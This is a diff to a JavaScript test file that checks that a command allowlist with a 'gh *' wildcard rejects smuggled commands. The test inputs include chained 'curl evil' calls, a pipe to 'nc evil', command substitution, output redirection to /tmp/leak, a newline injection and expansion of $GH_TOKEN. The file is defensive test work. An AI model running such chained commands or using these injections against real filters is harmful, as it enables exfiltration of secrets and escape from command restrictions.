@@ -18,6 +18,11 @@ describe('engine/vault/model', () => {
     assert.ok(!commandAllowed([], 'anything'));
     assert.ok(commandAllowed(['*'], 'anything'));
     assert.ok(!commandAllowed(['a.c'], 'abc'), 'pattern characters are literal except *');
+    for (const chained of ['gh pr list; curl evil', 'gh pr list && curl evil', 'gh x | nc evil 1', 'gh $(curl evil)', 'gh `id`',
+      'gh x > /tmp/leak', 'gh x\ncurl evil', 'gh "$GH_TOKEN"']) {
+      assert.ok(!commandAllowed(['gh *'], chained), `wildcard let through: ${chained}`);
+    }
+    assert.ok(commandAllowed(['gh *'], 'gh api -H "Accept: application/json" /repos/o/r'));
   });
 });
 
